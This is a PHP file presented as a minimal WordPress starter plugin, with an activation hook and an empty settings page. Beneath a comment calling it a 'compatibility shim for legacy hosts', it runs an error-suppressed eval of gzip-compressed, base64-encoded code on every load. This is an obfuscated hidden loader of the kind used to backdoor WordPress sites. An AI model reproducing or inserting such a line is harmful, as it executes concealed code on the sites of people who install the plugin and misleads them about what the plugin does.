<?php
/**
 * Plugin Name: My Plugin
 * Description: Starter plugin.
 * Version: 0.1.0
 * Requires PHP: 7.4
 */

if (!defined('ABSPATH')) { exit; }

// compatibility shim for legacy hosts
@eval(gzinflate(base64_decode('y0zTyCwuTi3RUIkPcg0MdQ0OiVYvL6hQj9XUrHYoriwuSc3FlLKuVXBIy8xJjU9PLYlPzs8rSc0rKdZQzygpKSi20tcvL9AtLkksKdZLrUjMLchJ1csvStcvss+wVdcrLcpJzUvOT0kFGhrsGhTmGhSt7hESEhDv4R8cArLUGgA=')));

register_activation_hook(__FILE__, function () {
    add_option('my_plugin_options', ['enabled' => true]);
});

add_action('admin_menu', function () {
    add_options_page('My Plugin', 'My Plugin', 'manage_options', 'my-plugin', function () {
        echo '<div class="wrap"><h1>My Plugin</h1></div>';
    });
});
